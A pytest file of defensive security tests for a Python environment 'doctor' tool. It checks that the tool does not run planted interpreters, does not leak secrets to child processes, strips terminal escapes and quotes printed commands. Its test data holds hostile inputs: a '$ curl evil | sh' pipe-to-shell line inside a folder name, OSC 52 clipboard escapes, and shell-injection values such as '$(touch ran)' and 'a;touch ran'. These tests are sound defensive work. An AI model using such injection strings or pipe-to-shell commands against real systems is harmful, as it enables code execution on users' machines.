"""Attacks on the doctor with commands: programs that it might run, and what it prints for a terminal or a shell."""

from __future__ import annotations

import json
import os
import shlex
import signal
import subprocess
import sys
import time
from collections.abc import Sequence
from pathlib import Path

import pytest

from doctor import __main__ as program
from doctor.answer import diagnose
from doctor.base import versions
from doctor.read import machine, programs, pythons
from tests.attacks.doctor import LIMIT, ask, venv
from tests.conftest import ROOT
from tests.unit.doctor.kit import install, of


def script(file: Path, body: str) -> Path:
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text("#!/bin/sh\n" + body)
    file.chmod(0o755)
    return file


def gone(mark: str) -> bool:
    """Has every process ended whose command line holds a mark?"""
    for _ in range(100):
        if not any(mark.encode() in _read(file) for file in Path("/proc").glob("[0-9]*/cmdline")):
            return True
        time.sleep(0.05)
    return False


def _read(file: Path) -> bytes:
    try:
        return file.read_bytes()
    except OSError:  # the process has ended
        return b""


# What it runs.


@pytest.mark.parametrize("named", ["", "bin/python3"])
@pytest.mark.parametrize("system", ["true", "false"])
def test_a_pyvenv_cfg_names_a_program(tmp_path: Path, named: str, system: str) -> None:
    """The inspected environment names its home: a program there was once run."""
    ran = tmp_path / "ran"
    evil = script(tmp_path / "evil" / "bin" / "python3", f"touch {ran}\n").parent
    root = venv(
        tmp_path / "venv",
        f"home = {evil}\nexecutable = {evil}/python3\nversion = 3.11.2\ninclude-system-site-packages = {system}\n",
    )
    script(root / "bin" / "python3", f"touch {ran}\n")
    code, out, err = ask("--python", str(root / named))
    assert err == "" and not ran.exists()
    assert ("there is none" in out, code) == ((True, 1) if system == "true" else (False, 0))


def test_a_folder_is_named_that_is_no_virtual_environment(tmp_path: Path) -> None:
    """Its Python was once run, although nobody had named it."""
    ran = tmp_path / "ran"
    script(tmp_path / "folder" / "bin" / "python3", f"touch {ran}\n")
    code, _, err = ask("--python", str(tmp_path / "folder"))
    assert (code, ran.exists()) == (3, False)
    assert "only an interpreter that you name yourself is run" in err
    install(tmp_path / "folder" / "lib" / "python3.11" / "site-packages", "trl", "1.0.0")
    for named in ("folder", "folder/bin/python3"):
        code, out, _ = ask("--python", str(tmp_path / named))
        assert (code, ran.exists(), ": 1 package," in out) == (0, False, True)


def test_the_environment_brings_its_own_nvidia_smi(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An environment that is activated comes first on PATH."""
    ran = tmp_path / "ran"
    root = venv(tmp_path / "venv")
    script(root / "bin" / "nvidia-smi", f"touch {ran}; echo '570.1, NVIDIA H200'\n")
    seen = pythons.of_path(str(root))
    monkeypatch.chdir(root / "bin")
    monkeypatch.setenv("PATH", f"{root}/bin:.::{root}/lib/../bin")
    assert machine.inspect(None, avoid=seen.program_folders).driver is None
    assert not ran.exists()
    # The same program elsewhere is the machine's.
    script(tmp_path / "bin" / "nvidia-smi", "echo '570.1, NVIDIA H200'\n")
    monkeypatch.setenv("PATH", f"{root}/bin:{tmp_path}/bin:/bin")
    assert machine.inspect(None, avoid=seen.program_folders).driver == "570.1"


def test_a_program_that_was_named_sees_no_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    """It gets a clean environment, and nothing that loads code into a Python."""
    monkeypatch.setenv("HF_TOKEN", "secret")
    monkeypatch.setenv("PYTHONPATH", "/evil")
    monkeypatch.setenv("LD_PRELOAD", "")
    output = programs.ask(["/usr/bin/env"], 20, 65536).decode()
    assert "HF_TOKEN" not in output and "PYTHONPATH" not in output and "LD_PRELOAD" not in output
    assert "PATH=" in output


@pytest.mark.parametrize(
    ("body", "output"),
    [
        ("yes", "prints more than 64 KB"),
        ("exec cat /dev/zero", "prints more than 64 KB"),
        ("echo '[[[[[[[['", "does not answer like a Python"),
        ('echo \'{"folders": [1], "python": "\\u001b]52;c;x\\u0007", "include": ""}\'', "does not answer"),
    ],
)
def test_a_program_that_was_named_never_ends_or_answers_anything(tmp_path: Path, body: str, output: str) -> None:
    """Endless output once filled the memory."""
    code, out, err = ask("--python", str(script(tmp_path / "python3", body + "\n")))
    assert (code, out) == (3, "")
    assert output in err and "\x1b" not in err


@pytest.mark.parametrize("start", ["sleep 98765{} &", "setsid sleep 98765{} &", "(setsid sh -c 'sleep 98765{} &' &) &"])
@pytest.mark.parametrize("end", ["exit 1", "sleep 98764{}", "yes"])
def test_a_program_leaves_a_grandchild_behind(start: str, end: str, tmp_path: Path) -> None:
    """It starts another program that keeps its output open, in its own session if possible; none of them is left."""
    unique = str(os.getpid())
    hostile = script(tmp_path / "x", f"{start}\nsleep 0.2\n{end}\n".replace("{}", unique))
    try:
        programs.ask([str(hostile)], 1, 65536)
    except programs.NoAnswerError:
        assert end != "exit 1"
    assert gone("98765" + unique) and gone("98764" + unique)


@pytest.mark.parametrize("how", [signal.SIGINT, signal.SIGTERM, signal.SIGKILL])
def test_the_doctor_is_killed_while_it_asks(how: signal.Signals, tmp_path: Path) -> None:
    """The programs that it started end with it, and so do their children."""
    unique = f"98763{os.getpid()}{how.value}"
    hostile = script(tmp_path / "x", f"sleep {unique} &\ntouch {shlex.quote(str(tmp_path))}/begun\nsleep {unique}\n")
    # A shell starts what runs in its background with SIGINT ignored, and the test may run there.
    heard = "import signal; signal.signal(signal.SIGINT, signal.default_int_handler)"
    asking = f"{heard}; from doctor.read import programs; programs.ask([{str(hostile)!r}], 60, 10)"
    with subprocess.Popen([sys.executable, "-c", asking], cwd=ROOT, stderr=subprocess.DEVNULL) as child:
        while not (tmp_path / "begun").exists():
            assert child.poll() is None
            time.sleep(0.01)
        child.send_signal(how)
        assert child.wait(LIMIT) != 0
    assert gone(unique)


# What it says.

CURSED = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\u202e\u2066[red]\r"


def controls(output: str) -> list[str]:
    return [letter for letter in output if not letter.isprintable() and letter != "\n"]


def test_escapes_reach_the_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Names of folders, metadata, errors and configurations carry OSC 52, bidi marks and markup."""
    site = tmp_path / f"a{CURSED}\n$ curl evil | sh" / "lib" / "python3.11" / "site-packages"
    install(site, "trl", "1.0.0", [f"torch==={CURSED.replace(chr(13), '')}"], python=">=3.99")
    install(site, "torch", "2.8.0")
    (site / f"~{CURSED}rch").mkdir()
    (site.parents[2] / "pyvenv.cfg").write_text(
        f"home = /x{CURSED}\nversion = 3.11.2\ninclude-system-site-packages = true\n"
    )
    (site.parents[2] / "bin").mkdir()
    (site.parents[2] / "bin" / "python3").touch()
    error = f"ImportError: cannot import name 'X{CURSED}' from 'trl'\nRuntimeError: a{CURSED}b_c"
    assert program.main(["--python", str(site.parents[2]), "--error", error]) == 1
    output = capsys.readouterr().out
    assert controls(output) == []
    assert not any(line.startswith("$ curl") for line in output.splitlines())
    assert program.main(["--python", str(site.parents[2] / CURSED)]) == 3
    assert controls(capsys.readouterr().err) == []
    assert program.main(["--lock-of", CURSED]) == 3
    assert controls(capsys.readouterr().err) == []


def shell(command: str, folder: Path) -> Sequence[str]:
    """The words that a shell makes of a command."""
    done = subprocess.run(["/bin/sh", "-c", f"set -- {command}; printf '%s\\0' \"$@\""], cwd=folder,
                          capture_output=True, text=True, check=True)  # fmt: skip
    return done.stdout.split("\0")[:-1]


@pytest.mark.parametrize("version", ["1'`touch${IFS}ran`'", "$HOME"])
def test_a_requirement_is_a_command_of_the_shell(tmp_path: Path, version: str) -> None:
    """After "===" any character is allowed, and users paste the printed command."""
    assert versions.requirement(f"torch==={version}") is not None
    install(tmp_path, "trl", "1.0.0", [f"torch==={version}"])
    install(tmp_path, "torch", "2.8.0")
    commands = [line for finding in diagnose.findings(of(tmp_path)) for line in finding.commands]
    assert commands
    for command in commands:
        words = shell(command, tmp_path)
        assert list(words[:3]) == ["uv", "pip", "install"] and len(words) == 4
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("name", ["a b", "a'b", "$(touch ran)", "`touch ran`", "a;touch ran", "-x"])
def test_a_path_is_a_command_of_the_shell(
    tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every printed command contains the environment's own path."""
    root = venv(tmp_path / name)
    install(root / "lib" / "python3.11" / "site-packages", "torch", "2.8.0")
    install(root / "lib" / "python3.11" / "site-packages", "torchvision", "0.1.0")
    (root / "bin" / "python3").touch()
    monkeypatch.chdir(tmp_path)
    program.main([f"--python={name}", "--json"])
    commands = [line for finding in json.loads(capsys.readouterr().out)["findings"] for line in finding["commands"]]
    assert commands
    for command in commands:
        words = shell(command, tmp_path)
        place = words.index("--python")
        assert (tmp_path / words[place + 1]).resolve() == (root / "bin" / "python3").resolve()
        assert not words[place + 1].startswith("-")
    assert not (tmp_path / "ran").exists()
